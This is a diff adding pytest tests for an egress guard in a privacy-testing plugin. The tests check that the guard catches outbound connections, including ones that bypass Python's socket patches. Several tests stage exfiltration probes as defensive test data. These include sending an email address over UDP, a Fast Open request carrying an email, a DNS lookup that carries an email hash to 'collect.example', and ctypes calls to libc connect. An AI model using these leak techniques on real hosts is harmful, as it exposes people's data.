@@ -1,0 +1,260 @@
+"""The egress guard sees what Python's socket patches cannot: the audit hook and the listings.
+
+Every probe aims at a loopback post the guard is told is a foreign host
+(``outside_post``): a guard that misses the attempt lets it reach a local
+socket, never the network, and the test sees it arrive.
+"""
+
+from __future__ import annotations
+
+import _socket
+import ctypes
+import hashlib
+import socket
+import sys
+import threading
+import time
+import types
+from collections.abc import Iterator
+from contextlib import closing
+
+import pytest
+
+from outside_post import OutsidePost, no_lookup_escapes, outside_post
+from pytest_stexcel_privacy.observe import child_reports
+from pytest_stexcel_privacy.observe.audit import quietly
+from pytest_stexcel_privacy.observe.egress import (
+    EgressGuard,
+    EgressRefused,
+    blind_spots,
+    guarded,
+)
+
+
+@pytest.fixture
+def post() -> Iterator[OutsidePost]:
+    with outside_post() as post:
+        yield post
+
+
+def kinds(guard: EgressGuard) -> list[tuple[str, str, int | None]]:
+    return [(e.kind, e.host, e.port) for e in guard.events]
+
+
+def test_the_c_socket_type_used_directly_is_refused(post: OutsidePost) -> None:
+    sock = _socket.socket()
+    with guarded(post.endpoints) as guard, closing(sock), pytest.raises(EgressRefused):
+        sock.connect(post.tcp_address)
+    assert kinds(guard) == [("connect", *post.tcp_address)]
+    assert post.arrivals() == []
+
+
+def test_connect_reached_around_the_patch_is_refused(post: OutsidePost) -> None:
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket() as sock,
+        pytest.raises(EgressRefused),
+    ):
+        super(socket.socket, sock).connect(post.tcp_address)
+    assert kinds(guard) == [("connect", *post.tcp_address)]
+    assert post.arrivals() == []
+
+
+def test_a_connect_method_saved_before_the_guard_started_is_refused(post: OutsidePost) -> None:
+    connect = socket.socket.connect  # what a module kept at import time
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket() as sock,
+        pytest.raises(EgressRefused),
+    ):
+        connect(sock, post.tcp_address)
+    assert kinds(guard) == [("connect", *post.tcp_address)]
+    assert post.arrivals() == []
+
+
+def test_udp_sendto_is_refused(post: OutsidePost) -> None:
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
+        pytest.raises(EgressRefused),
+    ):
+        sock.sendto(b"ada@example.com", post.udp_address)
+    assert kinds(guard) == [("send", *post.udp_address)]
+    assert post.arrivals() == []
+
+
+def test_udp_sendmsg_is_refused(post: OutsidePost) -> None:
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock,
+        pytest.raises(EgressRefused),
+    ):
+        sock.sendmsg([b"ada@example.com"], [], 0, post.udp_address)
+    assert kinds(guard) == [("send", *post.udp_address)]
+    assert post.arrivals() == []
+
+
+@pytest.mark.skipif(not hasattr(socket, "MSG_FASTOPEN"), reason="TCP Fast Open is Linux's")
+def test_tcp_fast_open_is_refused(post: OutsidePost) -> None:
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket() as sock,
+        pytest.raises(EgressRefused),
+    ):
+        sock.sendto(b"GET /?email=ada", socket.MSG_FASTOPEN, post.tcp_address)
+    assert kinds(guard) == [("send", *post.tcp_address)]
+    assert post.arrivals() == []
+
+
+def test_a_lookup_of_a_name_carrying_data_is_refused_before_it_leaves() -> None:
+    carried = hashlib.md5(b"ada.canary@example.com").hexdigest()
+    name = f"{carried}.collect.example"
+    with no_lookup_escapes(), guarded() as guard, pytest.raises(socket.gaierror) as caught:
+        socket.gethostbyname(name)
+    assert isinstance(caught.value, EgressRefused)
+    assert kinds(guard) == [("dns", name, None)]
+
+
+def test_reverse_lookups_and_gethostbyname_ex_are_refused() -> None:
+    with no_lookup_escapes(), guarded() as guard:
+        with pytest.raises(socket.gaierror):
+            socket.gethostbyname_ex("tracker.example")
+        with pytest.raises(socket.gaierror):
+            socket.gethostbyaddr("192.0.2.1")
+    assert [e.host for e in guard.events] == ["tracker.example", "192.0.2.1"]
+
+
+def test_libc_connect_through_ctypes_is_refused(post: OutsidePost) -> None:
+    address = socket.inet_aton(post.tcp_address[0])
+    sockaddr = (
+        socket.AF_INET.to_bytes(2, sys.byteorder)
+        + post.tcp_address[1].to_bytes(2, "big")
+        + address
+        + bytes(8)
+    )
+    with (
+        guarded(post.endpoints) as guard,
+        socket.socket() as sock,
+        pytest.raises(EgressRefused),
+    ):
+        ctypes.CDLL(None).connect(sock.fileno(), sockaddr, len(sockaddr))
+    assert [(e.kind, e.detail) for e in guard.events] == [
+        ("native", "connect looked up through ctypes")
+    ]
+    assert post.arrivals() == []
+
+
+def test_unrelated_ctypes_calls_pass() -> None:
+    with guarded() as guard:
+        assert ctypes.CDLL(None).getpid() > 0
+    assert guard.events == []
+
+
+def test_a_network_function_resolved_before_the_check_is_a_blind_spot() -> None:
+    module = types.ModuleType("resolved_early")
+    module.send = ctypes.CDLL(None).sendto  # type: ignore[attr-defined]
+    sys.modules[module.__name__] = module
+    try:
+        with guarded() as guard:
+            pass
+    finally:
+        del sys.modules[module.__name__]
+    assert [s for s in blind_spots(guard.events) if "resolved_early.send" in s]
+
+
+def test_a_connection_opened_before_the_guard_started_is_listed(post: OutsidePost) -> None:
+    with socket.create_connection(post.tcp_address), guarded(post.endpoints) as guard:
+        pass
+    assert kinds(guard) == [("open-before-start", *post.tcp_address)]
+
+
+def test_a_connection_the_hook_never_saw_is_listed_at_the_verdict(post: OutsidePost) -> None:
+    sock = _socket.socket()
+    with guarded(post.endpoints) as guard, closing(sock):
+        with quietly():  # as native code calling libc itself would
+            sock.connect(post.tcp_address)
+        guard.settle()
+    assert kinds(guard) == [("open-at-verdict", *post.tcp_address)]
+
+
+def test_a_thread_connecting_late_is_waited_for(post: OutsidePost) -> None:
+    address = post.tcp_address
+
+    def late() -> None:
+        time.sleep(0.3)
+        with socket.socket() as sock, pytest.raises(EgressRefused):
+            sock.connect(address)
+
+    with guarded(post.endpoints) as guard:
+        threading.Thread(target=late).start()
+        guard.settle()
+        assert kinds(guard) == [("connect", *post.tcp_address)]
+    assert post.arrivals() == []
+
+
+def test_a_thread_still_running_at_the_verdict_is_a_blind_spot() -> None:
+    stop = threading.Event()
+    with guarded() as guard:
+        threading.Thread(target=stop.wait, name="flusher", daemon=True).start()
+        guard.settle(grace=0.1)
+        stop.set()
+    assert blind_spots(guard.events) == [
+        "thread 'flusher' was still running (the module started it during the check; "
+        "what it sends after the verdict cannot be judged)"
+    ]
+
+
+def test_threads_of_servers_running_before_the_check_are_not_waited_for() -> None:
+    stop = threading.Event()
+
+    def server() -> None:  # a local sink that starts a handler per request
+        threading.Thread(target=stop.wait, daemon=True).start()
+
+    before = threading.Thread(target=lambda: (started.wait(), server()), daemon=True)
+    started = threading.Event()
+    before.start()
+    with guarded() as guard:
+        started.set()
+        before.join()
+        guard.settle(grace=0.1)
+        stop.set()
+    assert guard.events == []
+
+
+def test_loopback_connections_are_noted_as_seen() -> None:
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        address = server.getsockname()
+        sock = _socket.socket()
+        with guarded() as guard, closing(sock):
+            sock.connect(address)
+    assert guard.local_connections == [address]
+    assert guard.events == []
+
+
+@pytest.mark.skipif(not hasattr(socket, "AF_PACKET"), reason="packet sockets are Linux's")
+def test_a_packet_socket_bound_to_a_real_interface_is_refused() -> None:
+    interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]
+    try:
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    except PermissionError:
+        pytest.skip("packet sockets need CAP_NET_RAW")
+    if not interfaces:
+        pytest.skip("no network interface but loopback")
+    with guarded() as guard, closing(sock):
+        sock.bind(("lo", 0))  # loopback frames stay here
+        with pytest.raises(EgressRefused):
+            sock.bind((interfaces[0], 0))  # binding sends nothing; sending would
+    assert kinds(guard) == [("bind", f"interface {interfaces[0]}", None)]
+
+
+def test_a_child_report_that_cannot_be_read_is_a_blind_spot() -> None:
+    with guarded() as guard:
+        (child_reports.directory() / "4194304.jsonl").write_text('not json\n{"v": 0}\n')
+        guard.settle(grace=0.1)
+    (child_reports.directory() / "4194304.jsonl").unlink()
+    spots = blind_spots(guard.events)
+    assert len(spots) == 2
+    assert spots[0].startswith("a child's report 4194304.jsonl: not JSON")
+    assert spots[1].startswith("a child's report 4194304.jsonl: not a version-1 report")
